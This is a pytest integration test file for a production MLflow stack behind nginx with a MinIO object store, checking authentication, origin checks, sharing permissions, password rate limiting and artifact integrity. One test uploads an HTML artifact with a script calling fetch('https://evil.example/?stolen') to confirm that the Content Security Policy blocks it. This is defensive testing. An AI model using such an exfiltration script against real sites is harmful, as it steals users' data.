"""Through nginx to the real MLflow, database and object store: what researchers do, and what everybody else meets."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import httpx
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError, SSLError
from playwright.sync_api import Page, expect, sync_playwright

from tests.production_stack import ProductionStack

pytestmark = pytest.mark.xdist_group("stack")
MEGABYTE = 1_000_000


@pytest.fixture(scope="module")
def cleo(production_stack: ProductionStack) -> tuple[str, str]:
    """A researcher's account."""
    return "cleo-at-the-door", production_stack.add_user("cleo-at-the-door")


@pytest.fixture(scope="module")
def run(production_stack: ProductionStack, cleo: tuple[str, str]) -> dict[str, str]:
    """One run of cleo's, with a metric."""
    client = production_stack.client(cleo)
    experiment = post(client, "experiments/create", name="cleos-study")["experiment_id"]
    info = post(client, "runs/create", experiment_id=experiment, run_name="cleos-run")["run"]["info"]
    points = [{"key": "dice", "value": step / 10, "step": step, "timestamp": 1} for step in range(10)]
    post(client, "runs/log-batch", run_id=info["run_id"], metrics=points)
    return {"experiment": experiment, "run": info["run_id"], "artifacts": info["artifact_uri"].partition(":/")[2]}


def post(client: httpx.Client, call: str, **body: Any) -> dict[str, Any]:
    """Call MLflow's API."""
    answer = client.post(f"/api/2.0/mlflow/{call}", json=body)
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


# Refused


def test_a_wrong_password_and_no_password_get_nothing(production_stack: ProductionStack, cleo: tuple[str, str]) -> None:
    for account in (None, (cleo[0], "wrong"), ("nobody-of-that-name", "wrong")):
        answer = production_stack.client(account).get("/api/2.0/mlflow/experiments/search?max_results=1")
        assert answer.status_code == 401
        assert answer.json()["error_code"] == "UNAUTHENTICATED"
        assert answer.headers["www-authenticate"] == 'Basic realm="mlflow"'


def test_a_name_that_the_database_takes_for_the_same_is_refused(
    production_stack: ProductionStack, cleo: tuple[str, str]
) -> None:
    client = production_stack.client()
    for spelling in (f"{cleo[0]} ", f"{cleo[0]}     ", f" {cleo[0]}", cleo[0].upper(), f"{cleo[0]}\0"):
        answer = client.get("/api/2.0/mlflow/users/current", auth=(spelling, cleo[1]))
        assert answer.status_code == 401, spelling


def test_an_authority_that_is_not_trusted_ends_every_conversation(production_stack: ProductionStack) -> None:
    for place in (production_stack.uri, production_stack.objects_uri):
        with pytest.raises(httpx.ConnectError, match="certificate verify failed"):
            httpx.get(place, trust_env=False)
    with pytest.raises(SSLError):
        bucket(production_stack, verify=None).list_objects_v2(Bucket=production_stack.env["MINIO_BUCKET"])


def test_another_name_and_another_origin_are_refused(production_stack: ProductionStack, cleo: tuple[str, str]) -> None:
    client = production_stack.client(cleo)
    search = "/ajax-api/2.0/mlflow/experiments/search"
    port = production_stack.env["MLFLOW_PORT"]
    assert client.get(search, headers={"Host": f"127.0.0.1:{port}"}).status_code == 421
    for origin in ("https://evil.example", "http://localhost:8888", "null"):
        answer = client.post(search, json={"max_results": 1}, headers={"Origin": origin})
        assert answer.status_code == 403, origin
        assert answer.json()["error_code"] == "PERMISSION_DENIED"
    answer = client.post(search, json={"max_results": 1}, headers={"Origin": production_stack.uri})
    assert answer.status_code == 200, "MLflow refuses the origin of its own page"


def test_mlflow_itself_knows_its_name_and_origin_too(production_stack: ProductionStack, cleo: tuple[str, str]) -> None:
    inside = f"http://127.0.0.1:{production_stack.port('mlflow:5000')}"
    host = production_stack.uri.removeprefix("https://")
    with httpx.Client(base_url=inside, auth=cleo, trust_env=False, timeout=60) as client:
        search = "/api/2.0/mlflow/experiments/search"
        right = {"Host": host, "Origin": production_stack.uri}
        assert client.post(search, json={"max_results": 1}, headers=right).status_code == 200
        assert (
            client.post(search, json={"max_results": 1}, headers={**right, "Host": "evil.example"}).status_code == 403
        )
        foreign = {**right, "Origin": "https://evil.example"}
        assert client.post(search, json={"max_results": 1}, headers=foreign).status_code == 403


def test_a_colleague_without_a_share_cannot_read_the_run(
    production_stack: ProductionStack, run: dict[str, str]
) -> None:
    stranger = production_stack.client(("dora-at-the-door", production_stack.add_user("dora-at-the-door")))
    assert stranger.get("/api/2.0/mlflow/runs/get", params={"run_id": run["run"]}).status_code == 403
    question = "query GetRun($data: MlflowGetRunInput!) { mlflowGetRun(input: $data) { run { info { runName } } } }"
    answer = stranger.post("/graphql", json={"query": question, "variables": {"data": {"runId": run["run"]}}})
    assert "cleos-run" not in answer.text
    artifact = f"/api/2.0/mlflow-artifacts/artifacts/{run['artifacts']}/x"
    assert stranger.put(artifact, content=b"x").status_code == 403
    assert stranger.get(artifact).status_code == 403


def test_passwords_cannot_be_guessed_while_the_owner_goes_on_training(
    production_stack: ProductionStack, run: dict[str, str], cleo: tuple[str, str]
) -> None:
    training = production_stack.client(cleo)
    post(training, "runs/log-batch", run_id=run["run"], metrics=[])
    guesser = production_stack.client()
    statuses = [
        guesser.get("/api/2.0/mlflow/users/current", auth=(cleo[0], f"guess-{n}")).status_code for n in range(20)
    ]
    assert statuses.count(401) >= 8
    assert statuses[-1] == 429
    answer = guesser.get("/graphql", auth=(cleo[0], "another-guess"))
    assert (answer.status_code, answer.headers["retry-after"]) == (429, "10")
    for step in range(100):
        metric = {"key": "loss", "value": 1 / (step + 1), "step": step, "timestamp": 1}
        post(training, "runs/log-batch", run_id=run["run"], metrics=[metric])


def test_the_bucket_is_closed_to_strangers_and_to_wrong_keys(production_stack: ProductionStack) -> None:
    name = production_stack.env["MINIO_BUCKET"]
    stranger = production_stack.objects_client()
    for method, path in (("GET", f"/{name}"), ("GET", f"/{name}/x"), ("PUT", f"/{name}/x"), ("DELETE", f"/{name}/x")):
        answer = stranger.request(method, path)
        assert answer.status_code == 403, (method, path)
        assert "AccessDenied" in answer.text
    with pytest.raises(ClientError, match="SignatureDoesNotMatch"):
        bucket(production_stack, aws_secret_access_key="wrong").list_objects_v2(Bucket=name)
    assert stranger.get("/minio/admin/v3/info").status_code == 403


# Let through


def test_an_artifact_comes_back_as_it_went_up(
    production_stack: ProductionStack, run: dict[str, str], cleo: tuple[str, str], tmp_path: Path
) -> None:
    """With MLflow's own client, as a user's notebook does it, and past every offer to go around MLflow."""
    content = os.urandom(60 * MEGABYTE)
    (tmp_path / "weights.bin").write_bytes(content)
    program = (
        "import sys, mlflow\n"
        "mlflow.MlflowClient().log_artifact(sys.argv[1], 'weights.bin')\n"
        "print(mlflow.artifacts.download_artifacts(run_id=sys.argv[1], artifact_path='weights.bin', dst_path='back'))\n"
    )
    environment = {
        **os.environ,
        "MLFLOW_TRACKING_URI": production_stack.uri,
        "MLFLOW_TRACKING_USERNAME": cleo[0],
        "MLFLOW_TRACKING_PASSWORD": cleo[1],
        "MLFLOW_TRACKING_SERVER_CERT_PATH": str(production_stack.ca),
        "MLFLOW_MULTIPART_UPLOAD_MINIMUM_FILE_SIZE": str(6 * MEGABYTE),
        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "1",
    }
    done = subprocess.run(
        [sys.executable, "-c", program, run["run"]], env=environment, cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert sha256((tmp_path / "back" / "weights.bin").read_bytes()) == sha256(content)
    offered = production_stack.client(cleo).get("/api/3.0/mlflow/server-info").json()
    assert offered["multipart_uploads_enabled"] is offered["multipart_downloads_enabled"] is False


def test_the_object_store_gives_back_what_it_took(production_stack: ProductionStack, tmp_path: Path) -> None:
    """With boto3 as it is: checksums at the end of chunks, several parts at once, ranges, presigned addresses."""
    store = bucket(production_stack)
    name = production_stack.env["MINIO_BUCKET"]
    content = os.urandom(40 * MEGABYTE)
    (tmp_path / "large").write_bytes(content)
    key = "door/a b+é/large"
    try:
        store.upload_file(str(tmp_path / "large"), name, key)
        store.download_file(name, key, str(tmp_path / "back"))
        assert sha256((tmp_path / "back").read_bytes()) == sha256(content)
        assert store.get_object(Bucket=name, Key=key, Range="bytes=7-11")["Body"].read() == content[7:12]
        with (tmp_path / "large").open("rb") as stream:
            store.put_object(Bucket=name, Key=f"{key}-2", Body=stream)
        client = production_stack.objects_client()
        parameters = {"Bucket": name, "Key": f"{key}-2"}
        assert sha256(client.get(store.generate_presigned_url("get_object", Params=parameters)).content) == sha256(
            content
        )
        assert (
            client.put(store.generate_presigned_url("put_object", Params=parameters), content=b"x").status_code == 200
        )
        assert store.get_object(Bucket=name, Key=f"{key}-2")["Body"].read() == b"x"
    finally:
        for one in (key, f"{key}-2"):
            store.delete_object(Bucket=name, Key=one)


@pytest.fixture
def page(
    chromium: str, production_stack: ProductionStack, cleo: tuple[str, str], tmp_path: Path
) -> Iterator[tuple[Page, list[str]]]:
    """A browser that logged in as cleo, and a list of what went wrong in it."""
    troubles: list[str] = []
    closed = ("/mlflow/assistant/", "/mlflow/ui-telemetry", "/mlflow/gateway", "/favicon.ico")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-dev-shm-usage"])
        login = {"username": cleo[0], "password": cleo[1], "origin": production_stack.uri}
        context = browser.new_context(ignore_https_errors=True, http_credentials=login)  # type: ignore[arg-type]
        tab = context.new_page()
        tab.on(
            "response",
            lambda it: (
                troubles.append(f"{it.status} {it.url}")
                if it.status >= 400 and not any(part in it.url for part in closed)
                else None
            ),
        )
        tab.on(
            "request",
            lambda it: None if it.url.startswith((production_stack.uri, "data:", "blob:")) else troubles.append(it.url),
        )
        tab.on("pageerror", lambda error: troubles.append(str(error)))
        yield tab, troubles
        browser.close()


def test_mlflows_own_page_works_with_its_posts_and_charts(
    production_stack: ProductionStack, run: dict[str, str], page: tuple[Page, list[str]]
) -> None:
    tab, troubles = page
    posts: list[int] = []
    tab.on(
        "response",
        lambda it: (
            posts.append(it.status)
            if it.request.method == "POST" and it.request.headers.get("origin") == production_stack.uri
            else None
        ),
    )
    experiment = f"{production_stack.uri}/#/experiments/{run['experiment']}"
    tab.goto(f"{experiment}/runs")
    expect(tab.get_by_text("cleos-run").first).to_be_visible(timeout=60_000)
    tab.goto(f"{experiment}/runs/{run['run']}/model-metrics")
    expect(tab.locator(".js-plotly-plot .scatterlayer path").first).to_be_attached(timeout=60_000)
    assert posts
    assert set(posts) == {200}
    assert troubles == []


def test_an_artifact_shown_by_mlflow_cannot_call_home(
    production_stack: ProductionStack, run: dict[str, str], cleo: tuple[str, str], page: tuple[Page, list[str]]
) -> None:
    tab, troubles = page
    prepared = b"<h1>a prepared report</h1><script>fetch('https://evil.example/?stolen')</script>"
    path = f"/api/2.0/mlflow-artifacts/artifacts/{run['artifacts']}/report.html"
    assert production_stack.client(cleo).put(path, content=prepared).status_code == 200
    refused: list[str] = []
    tab.on("console", lambda it: refused.append(it.text) if "Content Security Policy" in it.text else None)
    tab.goto(f"{production_stack.uri}/#/experiments/{run['experiment']}/runs/{run['run']}/artifacts/report.html")
    frame = tab.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="a prepared report")).to_be_visible(timeout=60_000)
    limit = time.monotonic() + 20
    while not refused and time.monotonic() < limit:
        tab.wait_for_timeout(50)
    assert any("evil.example" in text for text in refused)
    assert set(troubles) <= {"https://evil.example/?stolen", "Failed to fetch"}, "more than the script failed"


# Come and gone


def test_a_restarted_mlflow_is_found_again(
    production_stack: ProductionStack, run: dict[str, str], cleo: tuple[str, str]
) -> None:
    client = production_stack.client(cleo)
    post(client, "runs/log-batch", run_id=run["run"], metrics=[])
    production_stack.engine("stop", "mlflow").check_returncode()
    try:
        answer = client.post("/api/2.0/mlflow/runs/log-batch", json={"run_id": run["run"]})
        assert answer.status_code == 502
        assert answer.json()["error_code"] == "TEMPORARILY_UNAVAILABLE"
        assert "MLflow does not answer" in client.get("/").text
    finally:
        production_stack.engine("up", "-d", "--wait", "mlflow").check_returncode()
    post(client, "runs/log-batch", run_id=run["run"], metrics=[])


def bucket(stack: ProductionStack, **options: Any) -> Any:
    """Make boto3's client with the bucket's own key."""
    known = {
        "aws_access_key_id": stack.env["MINIO_ACCESS_KEY"],
        "aws_secret_access_key": stack.env["MINIO_SECRET_KEY"],
        "verify": str(stack.ca),
        **options,
    }
    config = Config(retries={"max_attempts": 1}, s3={"addressing_style": "path"})
    return boto3.client("s3", endpoint_url=stack.objects_uri, region_name="us-east-1", config=config, **known)


def sha256(content: bytes) -> str:
    """Give the checksum."""
    return hashlib.sha256(content).hexdigest()
